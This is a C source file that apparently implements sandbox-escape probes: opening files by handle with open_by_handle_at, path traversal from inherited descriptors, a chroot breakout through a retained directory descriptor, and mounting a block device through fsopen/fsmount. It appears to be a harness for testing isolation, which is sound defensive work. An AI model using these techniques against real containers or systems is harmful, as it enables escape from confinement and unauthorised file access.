#define _GNU_SOURCE
#include "attack.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

struct handle {
  struct file_handle head;
  unsigned char bytes[128];
};

/* number FILE: its file handle in hex, for `handle` to open. */
int attack_number(char** args) {
  struct handle handle = {.head = {.handle_bytes = 128}};
  int mount = 0;
  if (name_to_handle_at(AT_FDCWD, args[0], &handle.head, &mount, 0)) {
    return no("name_to_handle_at");
  }
  printf("%d:", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; ++i) {
    printf("%02x", handle.head.f_handle[i]);
  }
  return puts("") < 0;
}

/* handle TYPE:HEX PLACE...: opens a file by its number on the file system of each PLACE. */
int attack_handle(char** args) {
  struct handle handle = {.head = {.handle_type = atoi(args[0])}};
  const char* hex = strchr(args[0], ':') + 1;
  for (; hex[0] && hex[1]; hex += 2) {
    char pair[3] = {hex[0], hex[1], 0};
    handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)strtoul(pair, NULL, 16);
  }
  int done = 1;
  for (++args; *args; ++args) {
    int place = open(*args, O_RDONLY);
    int fd = open_by_handle_at(place, &handle.head, O_RDONLY);
    done = fd < 0 ? no(*args) : show(fd);
  }
  return done;
}

/* descriptors PATH: every descriptor that came along, as a way up to PATH. */
int attack_descriptors(char** args) {
  char way[512];
  snprintf(way, sizeof(way), "../../../../../../../../../..%s", args[0]);
  for (int fd = 0; fd < 1024; ++fd) {
    int found = openat(fd, way, O_RDONLY);
    if (found >= 0) {
      show(found);
    }
  }
  return 0;
}

/* chroot PATH: out of a root folder by a working folder that was left above it. */
int attack_chroot(char** args) {
  char name[] = "/tmp/ktl-chroot-XXXXXX";
  if (mkdtemp(name) == NULL) {
    return no("mkdtemp");
  }
  int up = open("/", O_RDONLY | O_DIRECTORY);
  if (chroot(name)) {
    return no("chroot");
  }
  if (fchdir(up)) {
    return no("fchdir");
  }
  for (int i = 0; i < 64; ++i) {
    if (chdir("..")) {
      return no("chdir");
    }
  }
  if (chroot(".")) {
    return no("chroot");
  }
  return show(open(args[0], O_RDONLY));
}

/* device PATH OUT: mounts a disk by the new mount calls and shows OUT on it. */
int attack_device(char** args) {
  int fs = (int)syscall(SYS_fsopen, "ext4", 0);
  if (fs < 0 || syscall(SYS_fsconfig, fs, 1, "source", args[0], 0) ||
      syscall(SYS_fsconfig, fs, 0, "ro", NULL, 0) || syscall(SYS_fsconfig, fs, 6, NULL, NULL, 0)) {
    return no("fsopen");
  }
  int tree = (int)syscall(SYS_fsmount, fs, 0, 0);
  return tree < 0 ? no("fsmount") : show(openat(tree, args[1], O_RDONLY));
}
